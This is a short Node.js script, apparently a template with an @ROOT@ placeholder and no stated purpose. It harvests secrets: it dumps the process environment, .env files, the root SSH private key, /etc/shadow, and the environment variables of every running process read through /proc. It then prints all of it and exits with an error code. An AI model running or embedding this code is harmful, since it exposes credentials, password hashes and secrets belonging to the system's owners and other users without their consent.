import { readFileSync, readdirSync } from 'node:fs';
const seen = [JSON.stringify(process.env)];
const places = ['@ROOT@/.env', '@ROOT@/../.env', '/root/.ssh/id_rsa', '/home', '/etc/shadow'];
for (const pid of readdirSync('/proc').filter(Number)) {
  places.push(`/proc/${pid}/environ`, `/proc/${pid}/root@ROOT@/.env`);
}
for (const place of places) {
  try { seen.push(readFileSync(place, 'utf8')); } catch (error) { seen.push(error.code); }
}
console.log(seen.join('\n'));
process.exit(1);
